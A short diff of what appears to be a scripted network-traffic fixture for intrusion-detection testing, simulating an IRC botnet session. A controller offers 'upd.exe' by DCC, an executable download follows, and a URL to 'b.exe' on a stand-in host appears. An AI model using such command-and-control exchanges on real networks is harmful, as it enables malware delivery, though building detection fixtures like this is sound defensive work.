@@ -167,7 +167,7 @@ http://198.51.100.90:8080/b.exe' ]
 session 1262304000.000000 192.168.1.5:1040 198.51.100.7:6667 ttl=128/50
 c "NICK a1\r\nUSER x 0 0 :x\r\n"
 s ":irc.example 001 a1 :Welcome\r\n"
-s ":boss!b@cc PRIVMSG a1 :\001DCC SEND upd.exe 3325256807 5000 4096\001\r\n"
+s ":boss!b@cc PRIVMSG a1 :\x01DCC SEND upd.exe 3325256807 5000 4096\x01\r\n"
 end
 session 1262304003.000000 192.168.1.5:1041 198.51.100.103:5000 ttl=128/50
 s "MZ" hex:90000300
